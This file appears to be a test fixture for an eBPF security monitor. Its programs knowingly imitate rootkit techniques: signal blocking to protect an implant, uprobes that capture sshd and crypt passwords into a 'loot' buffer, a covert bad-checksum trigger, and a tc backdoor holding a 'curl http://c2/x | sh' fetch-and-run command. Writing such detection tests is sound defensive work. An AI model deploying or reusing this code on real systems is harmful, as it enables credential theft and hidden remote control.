// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, one program per technique of the attack surface the
 * default rules of rules/defaults/surface.yaml cover (issue 16):
 *  - protect_implant (lsm/task_kill): anti-kill, denies signals to the implant;
 *  - deny_kill (fmod_ret/__x64_sys_kill): the same by modify-return on the
 *    syscall;
 *  - grab_sshd_pass (uprobe on sshd's auth_password) and grab_crypt
 *    (uprobe on libcrypt's crypt): credential sniffing, as pamspy does on PAM;
 *  - wake_on_bad_csum (tracepoint tcp/tcp_bad_csum): a covert trigger, a
 *    packet with a bad checksum wakes the implant;
 *  - tc_backdoor (tc): rewrites packets that carry a magic and hands a
 *    command string to user space.
 * The lsm and fmod_ret programs do not load here (EPERM); the others do.
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define EPERM 1
#define TC_ACT_OK 0

const volatile u32 implant_tgid = 4242;

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 64 * 1024);
} loot SEC(".maps");

SEC("lsm/task_kill")
int BPF_PROG(protect_implant, struct task_struct *p, void *info, int sig, const void *cred)
{
	if (BPF_CORE_READ(p, tgid) == implant_tgid)
		return -EPERM;
	return 0;
}

SEC("fmod_ret/__x64_sys_kill")
int BPF_PROG(deny_kill, struct pt_regs *regs, int ret)
{
	if ((bpf_get_current_pid_tgid() >> 32) != implant_tgid)
		return -EPERM;
	return 0;
}

static __always_inline int send_secret(const void *p)
{
	char *buf = bpf_ringbuf_reserve(&loot, 64, 0);

	if (!buf)
		return 0;
	bpf_probe_read_user_str(buf, 64, p);
	bpf_ringbuf_submit(buf, 0);
	return 0;
}

SEC("uprobe//usr/sbin/sshd:auth_password")
int grab_sshd_pass(struct pt_regs *ctx)
{
	return send_secret((const void *)PT_REGS_PARM2(ctx));
}

SEC("uprobe//lib/x86_64-linux-gnu/libcrypt.so.1:crypt")
int grab_crypt(struct pt_regs *ctx)
{
	return send_secret((const void *)PT_REGS_PARM1(ctx));
}

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, u32);
	__type(value, u64);
} wake SEC(".maps");

SEC("tracepoint/tcp/tcp_bad_csum")
int wake_on_bad_csum(void *ctx)
{
	u32 zero = 0;
	u64 *w = bpf_map_lookup_elem(&wake, &zero);

	if (w)
		__sync_fetch_and_add(w, 1);
	return 0;
}

static const char command[] = "/bin/sh -c 'curl -s http://c2/x | sh'";

SEC("tc")
int tc_backdoor(struct __sk_buff *skb)
{
	u32 magic = 0;
	u32 zero = 0;

	if (bpf_skb_load_bytes(skb, 54, &magic, sizeof(magic)) < 0 || magic != 0xdeadc0de)
		return TC_ACT_OK;
	bpf_skb_store_bytes(skb, 54, &zero, sizeof(zero), 0);
	bpf_ringbuf_output(&loot, (void *)command, sizeof(command), 0);
	return TC_ACT_OK;
}
